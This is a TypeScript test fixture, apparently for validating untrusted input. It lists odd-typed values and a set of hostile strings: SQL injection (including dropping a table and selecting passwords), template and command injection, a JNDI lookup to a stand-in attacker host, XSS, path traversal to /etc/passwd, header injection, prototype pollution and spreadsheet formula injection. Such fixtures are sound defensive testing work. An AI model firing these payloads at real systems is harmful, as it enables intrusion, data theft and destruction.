/** Values of other kinds than a field has. */
export const otherKinds: readonly unknown[] = [
  null, true, -1, 1e308, [], ['a'], {}, { $ne: null }, { length: 12, toString: 'a', constructor: { name: 'x' } }, Array.from({ length: 200 }, () => 'a'),
];

/** Texts that some program somewhere takes for something else. */
export const hostileTexts: readonly string[] = [
  "' or '1'='1",
  "'; drop table members; --",
  "' union select password from credentials --",
  "1); select pg_sleep(10); --",
  '${7*7}{{7*7}}<%= 7*7 %>#{7*7}',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '$(reboot) `reboot` | reboot',
  '%00%0d%0aSet-Cookie:%20a=b',
  'a\r\nSet-Cookie: a=b',
  'a\u0000b',
  '\ud800',
  '\u202eadmin\u2066',
  '__proto__',
  '{"$ne":null}',
  '=cmd|calc!A1',
  "o'neill!#$%&*+/=?^_`{|}~@example.org",
  'amira@مثال.مصر',
  'a@xn--mgbh0fb.xn--wgbh1c',
  "'or'1'='1@example.org",
  '%s%s%s%n',
  '😀'.repeat(3000),
];
